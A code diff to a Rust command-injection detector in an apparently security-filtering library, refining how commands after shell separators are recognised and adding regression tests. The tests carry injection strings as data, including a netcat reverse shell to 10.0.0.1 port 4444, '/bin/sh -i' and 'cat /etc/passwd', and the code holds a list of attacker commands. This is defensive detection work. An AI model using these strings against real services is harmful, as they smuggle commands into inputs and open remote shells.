@@ -6,6 +6,8 @@ use crate::{signal, Detector};
 use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind, MatchKind};
 use palisade_normalize::Value;
 use palisade_types::{Category, Signal};
+use std::collections::HashSet;
+use std::sync::LazyLock;
 
 /// Commands attackers run first: recon, download-and-run, shells, reverse connections.
 const COMMANDS: &[&str] = &[
@@ -90,6 +92,10 @@ const COMMANDS: &[&str] = &[
     "/bin/cat",
 ];
 
+/// [`COMMANDS`] as a set, built once: looked up on every separator hit.
+static COMMAND_SET: LazyLock<HashSet<&'static str>> =
+    LazyLock::new(|| COMMANDS.iter().copied().collect());
+
 pub struct Rce {
     /// Separators and substitutions that let a value start a new command.
     separators: AhoCorasick,
@@ -107,11 +113,14 @@ impl Rce {
         }
     }
 
-    fn first_word(s: &str) -> &str {
-        let s = s.trim_start_matches(|c: char| {
+    /// Start and end (byte offsets, on character boundaries) of the first word of `s`, after
+    /// leading whitespace, brackets and quotes.
+    fn first_word_span(s: &str) -> (usize, usize) {
+        let word = s.trim_start_matches(|c: char| {
             c.is_whitespace() || matches!(c, '(' | '{' | '\'' | '"' | '!')
         });
-        let end = s
+        let start = s.len() - word.len();
+        let len = word
             .find(|c: char| {
                 c.is_whitespace()
                     || matches!(
@@ -119,36 +128,97 @@ impl Rce {
                         ';' | '|' | '&' | '`' | ')' | '<' | '>' | '$' | '\'' | '"' | '}'
                     )
             })
-            .unwrap_or(s.len());
-        &s[..end]
+            .unwrap_or(word.len());
+        (start, start + len)
     }
 
-    fn check(&self, text: &str) -> Option<f32> {
+    fn first_word(s: &str) -> &str {
+        let (start, end) = Self::first_word_span(s);
+        &s[start..end]
+    }
+
+    /// The command a word names: lower-cased, quotes and `.exe` dropped, and for a path
+    /// (`/bin/sh`, `usr/bin/id`) its last segment, with whether it was named by path.
+    /// Works in a stack buffer: it runs on every separator hit.
+    fn command(word: &str) -> Option<(&'static str, bool)> {
+        let mut buf = [0u8; 32];
+        let mut n = 0;
+        for &c in word.as_bytes() {
+            if matches!(c, b'\'' | b'"' | b'\\') {
+                continue;
+            }
+            if n == buf.len() {
+                return None;
+            }
+            buf[n] = c.to_ascii_lowercase();
+            n += 1;
+        }
+        let w = std::str::from_utf8(&buf[..n]).ok()?;
+        let by_path = w.starts_with('/') || w.contains("bin/");
+        if w.contains('/') && !by_path {
+            return None;
+        }
+        let base = w.rsplit('/').next().unwrap_or(w);
+        let base = base.strip_suffix(".exe").unwrap_or(base);
+        COMMAND_SET.get(base).map(|c| (*c, by_path))
+    }
+
+    fn check(&self, text: &str, in_path: bool) -> Option<f32> {
         for m in self.separators.find_iter(text) {
             let sep = &text[m.start()..m.end()];
             let rest = &text[m.end()..];
-            let word = Self::first_word(rest).to_ascii_lowercase();
-            let word = word.replace(['\'', '"', '\\'], "");
-            let base = word.rsplit('/').next().unwrap_or(&word);
-            let is_cmd = COMMANDS.contains(&word.as_str())
-                || (word.starts_with('/') && COMMANDS.contains(&base));
-            if !is_cmd {
-                continue;
-            }
-            // In prose, "a; cat" or "x | more" read as text: require something shell-like after
-            // the command (an argument with '/', '-', '$', a redirection), or a substitution.
             let word_raw = Self::first_word(rest);
-            let after = &rest[rest.find(word_raw).map_or(0, |p| p + word_raw.len())..];
-            let argish = after.trim_start().starts_with([
-                '-', '/', '$', '<', '>', '|', ';', '`', '\'', '"', '.', '~', '%',
-            ]) || after.trim().is_empty()
-                || after.contains("/");
+            let Some((_, by_path)) = Self::command(word_raw) else {
+                continue;
+            };
             let substitution = matches!(sep, "`" | "$(");
             if substitution && (rest.contains('`') || rest.contains(')')) {
                 return Some(0.95);
             }
-            if argish && (sep != "&" || after.trim_start().starts_with(['-', '/'])) {
-                return Some(if after.trim().is_empty() { 0.75 } else { 0.9 });
+            // A command named by its path after a separator is shell, not prose.
+            if by_path {
+                return Some(0.9);
+            }
+            // In prose, "a; cat" or "x | more" read as text: require something shell-like after
+            // the command (a flag, a path, a number, `$`, a redirection), or nothing at all.
+            let after = &rest[rest.find(word_raw).map_or(0, |p| p + word_raw.len())..];
+            let next = after.trim_start();
+            let argish = next.starts_with([
+                '-', '/', '$', '<', '>', '|', ';', '`', '\'', '"', '.', '~', '%',
+            ]) || next.starts_with(|c: char| c.is_ascii_digit())
+                || next.is_empty()
+                || after.contains('/');
+            if argish && (sep != "&" || next.starts_with(['-', '/'])) {
+                return Some(if next.is_empty() { 0.75 } else { 0.9 });
+            }
+        }
+        // The whole value a command: with a system path it is an attempt (`cat /etc/passwd`);
+        // with flags only it may be documentation (`ls -la`), so it is only logged. A URL
+        // path is a path, not a command line (traversal is the LFI detector's).
+        if in_path {
+            return None;
+        }
+        let trimmed = text.trim_start();
+        // `first_word` skips leading brackets and quotes: slice at the span, not the length.
+        let (start, end) = Self::first_word_span(trimmed);
+        let first = &trimmed[start..end];
+        let args = trimmed[end..].trim_start();
+        // Only a flag or a path after the first word can make it a command line.
+        let shellish = args.starts_with(['-', '/', '\\'])
+            || args.get(1..3).is_some_and(|d| d == ":/" || d == ":\\");
+        if !(shellish || first.starts_with('/')) {
+            return None;
+        }
+        if let Some((_, by_path)) = Self::command(first) {
+            let args = args.to_ascii_lowercase();
+            const SYSTEM: [&str; 9] = [
+                "/etc/", "/bin/", "/usr/", "/proc/", "/tmp/", "/dev/", "/var/", "c:/", "c:\\",
+            ];
+            if SYSTEM.iter().any(|p| args.starts_with(p)) || (by_path && !args.is_empty()) {
+                return Some(0.85);
+            }
+            if args.starts_with('-') {
+                return Some(0.6);
             }
         }
         None
@@ -167,7 +237,8 @@ impl Detector for Rce {
     }
 
     fn inspect(&self, value: &Value, out: &mut Vec<Signal>) {
-        if let Some(c) = self.check(value.text()) {
+        let in_path = value.place.kind == palisade_types::PlaceKind::Path;
+        if let Some(c) = self.check(value.text(), in_path) {
             out.push(signal("rce", Category::Rce, c, value, value.text()));
         }
     }
@@ -178,10 +249,32 @@ mod tests {
     use super::*;
     use crate::value;
 
-    fn hit(s: &str) -> bool {
+    fn signals(s: &str) -> Vec<Signal> {
         let mut out = Vec::new();
         Rce::new().inspect(&value(s), &mut out);
-        !out.is_empty()
+        out
+    }
+
+    /// Would the default threshold (0.7) block it?
+    fn hit(s: &str) -> bool {
+        signals(s).iter().any(|s| s.confidence >= 0.7)
+    }
+
+    /// Regression: the word after leading brackets was sliced by length, not position, and a
+    /// multi-byte character there panicked (found by the engine's property test).
+    #[test]
+    fn leading_brackets_and_multibyte_text_do_not_panic() {
+        for s in ["(é -x", "{ü /etc/passwd", "'ñ -la", "(((/bin/sh"] {
+            let _ = signals(s);
+        }
+        assert!(hit("(cat /etc/passwd"));
+    }
+
+    #[test]
+    fn flags_alone_are_reported_below_the_block_threshold() {
+        let s = signals("ls -la");
+        assert_eq!(s.len(), 1);
+        assert!(s[0].confidence < 0.7);
     }
 
     #[test]
@@ -195,6 +288,12 @@ mod tests {
             "a;/bin/sh -i",
             "1 | nc 10.0.0.1 4444 -e /bin/sh",
             "test\nls -la",
+            // Regressions from the CRS and HttpParams corpora.
+            "' ; /bin/sleep 31 ;",
+            "|usr/bin/id",
+            "cat /etc/passwd",
+            "x; ping.exe -n 31 127.0.0.1",
+            "/usr/bin/id -a",
         ] {
             assert!(hit(s), "missed: {s}");
         }
@@ -209,6 +308,11 @@ mod tests {
             "this | that",
             "see `README.md`",
             "a && b are both true",
+            "cat lovers unite",
+            "find the best route",
+            "sleep 8 hours; exercise daily",
+            // Flags alone are documentation, logged but not blocked (confidence below 0.7).
+            "ls -la",
         ] {
             assert!(!hit(s), "false positive: {s}");
         }
